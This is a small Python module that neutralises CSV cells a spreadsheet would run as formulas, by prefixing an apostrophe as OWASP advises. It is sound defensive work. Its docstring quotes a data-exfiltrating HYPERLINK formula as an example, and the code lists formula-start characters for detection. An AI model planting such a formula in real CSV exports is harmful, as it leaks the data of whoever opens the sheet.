"""Cells a spreadsheet would take for a formula.

Excel, LibreOffice and Google Sheets read a CSV cell that begins with ``=``,
``+``, ``-`` or ``@`` as a formula, and one that begins with a tab or a
carriage return may become one once the spreadsheet trims it: a cell such as
``=HYPERLINK("http://…"&A1, "Klikk")`` sends the sheet's data elsewhere when
clicked. The published CSV puts an apostrophe before such a cell, as OWASP's
advice on CSV injection says; a spreadsheet shows the text, and hides the
apostrophe. ``import`` warns about the values it brings in that begin so.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_start(value: str) -> str | None:
    """The character that would make ``value`` a formula, or None."""
    return value[0] if value.startswith(FORMULA_STARTS) else None


def neutralised(value: str) -> str:
    """``value`` as a CSV cell no spreadsheet runs: with an apostrophe before it where it would."""
    return f"'{value}" if formula_start(value) else value
